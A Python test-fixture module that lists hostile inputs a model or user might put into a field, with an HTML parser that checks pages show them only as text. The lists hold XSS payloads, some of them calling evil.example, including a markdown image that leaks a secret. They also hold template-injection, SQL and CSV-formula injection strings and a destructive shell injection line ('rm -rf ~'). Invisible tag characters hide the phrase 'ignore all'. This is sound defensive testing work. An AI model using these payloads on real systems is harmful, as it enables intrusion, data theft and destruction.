"""What a model, or whoever writes to one, may put into any field. Pages must show it as text, whatever it is.

`HOSTILE` has each under a name, `KINDS` has them by kind. `Page` reads HTML as a browser would, and tells whether a
text is on it as one text and nothing else, and of which elements and attributes it consists.
"""

from collections.abc import Iterator, Mapping
from html.parser import HTMLParser
from typing import Final

_BREAKOUTS: Final = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script half open": "<script/x>alert(1)",
    "img onerror": "<img src=x onerror=alert(1)>",
    "img without blanks": "<img/src=x/onerror=alert(1)>",
    "body onload": "<body onload=alert(1)>",
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "style": "<style>*{display:none}</style>",
    "link": '<link rel=stylesheet href="//evil.example/x.css">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "base": '<base href="//evil.example/">',
    "form": '<form action="//evil.example"><input name=password><button>Log in</button></form>',
    "object": '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "template": "<template><script>alert(1)</script></template>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "closing tags": "</div></section></main></body></html>",
    "closing title": "</title><script>alert(1)</script>",
    "closing textarea": "</textarea><script>alert(1)</script>",
    "closing script": "</script><script>alert(1)</script>",
    "comment": "<!-- a comment",
    "comment that ends": "--><script>alert(1)</script><!--",
    "CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "processing instruction": "<?xml-stylesheet href='x'?>",
    "doctype": "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp;amp; &nbsp",
    "svg": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "svg animate": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "svg foreignObject": "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "mathml": '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    "double quote": '" autofocus onfocus=alert(1) x="',
    "single quote": "' autofocus onfocus=alert(1) x='",
    "backtick": "` onmouseover=alert(1) x=`",
    "unquoted": "x onclick=alert(1)",
    "angle and quote": "\"'><img src=x onerror=alert(1)>",
}
_LINKS: Final = {
    "markdown link": "[click me](javascript:alert(1))",
    "markdown image": "![x](https://evil.example/leak?q=secret)",
    "markdown html": "**bold** <b>bold</b> # heading\n```html\n<script>alert(1)</script>\n```",
    "markdown reference": "[x][1]\n\n[1]: javascript:alert(1)",
    "autolink": "<javascript:alert(1)>",
    "javascript": "javascript:alert(1)",
    "javascript in disguise": "java\tscript:alert(1)",
    "javascript encoded": "&#106;avascript:alert(1)",
    "data html": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data svg": "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "vbscript": 'vbscript:msgbox("x")',
    "protocol relative": "//evil.example/%2e%2e",
    "file url": "file:///etc/passwd",
    "path": "../../../../etc/passwd",
    "blob reference": "blob:sha256:" + "0" * 64,
}
_UNSEEN: Final = {
    "bidi override": "user \u202egnp.exe\u202c",
    "bidi embedding": "\u202bright\u202c \u202aleft\u202c",
    "bidi isolate that never ends": "\u2066\u2067\u2068 open",
    "bidi marks": "a\u200eb\u200fc\u061cd",
    "zero width": "pass\u200bword\u2060\ufeff",
    "soft hyphen": "in\u00advisible",
    "tag characters": "hello" + "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all"),
    "filler": "\u3164\u115f\u1160\uffa0",
    "nul": "be\0fore",
    "controls": "".join(map(chr, range(1, 32))) + "\x7f",
    "c1 controls": "".join(map(chr, range(0x80, 0xA0))),
    "ansi escapes": "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "carriage return": "visible\rhidden",
    "header injection": "x\r\nSet-Cookie: session=evil\r\n\r\n<script>alert(1)</script>",
    "line separators": "a\u2028b\u2029c\x0bd\x0ce",
    "right to left": "שלום עולם مرحبا بالعالم (1) [2] <3>",
    "combining storm": "Z" + "\u0335\u0321\u0300\u0301\u0302\u0303\u0304" * 200,
    "emoji": "👩‍👩‍👧‍👦🏴‍☠️🏳️‍🌈",
    "noncharacters": "\ufffe\uffff\U0001ffff",
    "surrogate escapes": "\\ud800 \\udfff \\u0000 \\x00 %00 %u0000 &#xD800; &#0;",
    "halfwidth and look-alikes": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e \ufe64b\ufe65 \u2039i\u203a",
}
_TEMPLATES: Final = {
    "django variable": "{{ request.user.password }}{{ settings.SECRET_KEY }}",
    "django tag": "{% load static %}{% include 'admin/base.html' %}{% endblock %}",
    "django comment": "{# comment #}{% comment %}x{% endcomment %}",
    "jinja": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "other templates": "${7*7} #{7*7} <%= 7*7 %> @(7*7) {{=7*7}}",
    "format string": "%s %(x)s %n {0} {x.__class__}",
}
_SHEETS_AND_SQL: Final = {
    "csv formula": '=HYPERLINK("https://evil.example","click")',
    "csv command": "=cmd|'/c calc'!A0",
    "csv at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "csv plus": "+1+1",
    "csv minus": "-2+3",
    "csv tab": "\t=1+1",
    "sql": "'; DROP TABLE capture_app_exampleindex; --",
    "sql like": "%_\\%",
    "shell": "$(touch /tmp/x) `id` ; rm -rf ~ | cat",
    "log": "x\n2026-01-01 ERROR forged line",
}
_SHAPES: Final = {
    "empty": "",
    "blanks": " \t \n ",
    "one letter": "x",
    "very long word": "a" * 5_000,
    "many lines": "line\n" * 2_000,
    "a megabyte in one line": "m" * 2**20,
    "many angles": "<" * 20_000,
    "deep JSON": '{"a":' * 3_000 + "1" + "}" * 3_000,
    "deep list": "[" * 900 + "]" * 900,
    "wide list": "[" + "0," * 5_000 + "0]",
    "JSON of markup": '{"</script><script>alert(1)</script>": "<img src=x onerror=alert(1)>"}',
    "JSON of oddities": '{"a": NaN, "a": 1e999, "b": "\\ud800", "c": 12345678901234567890123}',
    "JSON prototype": '{"__proto__": {"polluted": true}, "constructor": {"prototype": 1}}',
    "JSON cut off": '{"a": [1, 2',
    "JSON huge number": "9" * 5_000,
}

KINDS: Final[Mapping[str, Mapping[str, str]]] = {
    "breakouts": _BREAKOUTS,
    "links": _LINKS,
    "unseen": _UNSEEN,
    "templates": _TEMPLATES,
    "sheets and SQL": _SHEETS_AND_SQL,
    "shapes": _SHAPES,
}
HOSTILE: Final[Mapping[str, str]] = {name: text for kind in KINDS.values() for name, text in kind.items()}


class Page(HTMLParser):
    """The elements and texts of a page. Text that is parted by nothing but entities is one text, as in a browser."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, tuple[str, ...]]] = []  # tag, and the names of its attributes
        self.attributes: list[tuple[str, str, str]] = []  # tag, name, value
        self.texts: list[str] = []
        self.comments: list[str] = []
        self.oddities: list[str] = []  # declarations and the like: no page of ours has any but its doctype
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, tuple(sorted(name for name, _ in attrs))))
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.texts.append(data)

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)

    def handle_pi(self, data: str) -> None:
        self.oddities.append(data)

    def unknown_decl(self, data: str) -> None:
        self.oddities.append(data)

    def texts_with(self, part: str) -> list[str]:
        """The texts that hold `part`."""
        return [text for text in self.texts if part in text]

    def dangers(self) -> Iterator[str]:
        """What no page of ours may have: handlers, inline style, addresses that run something."""
        for tag, name, value in self.attributes:
            if name.startswith("on") or name in ("style", "srcdoc", "formaction"):
                yield f"{tag} {name}"
            if name in ("href", "src", "action") and not value.startswith(("/", "?", "#")):
                yield f"{tag} {name}={value[:60]}"
        yield from self.oddities
